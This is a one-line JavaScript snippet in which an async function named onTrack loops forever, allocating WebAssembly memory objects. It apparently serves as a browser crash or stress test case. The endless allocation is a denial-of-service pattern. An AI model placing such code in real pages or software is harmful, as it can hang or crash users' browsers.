async function onTrack() { const all = []; for (;;) all.push(new WebAssembly.Memory({ initial: 0 })); }
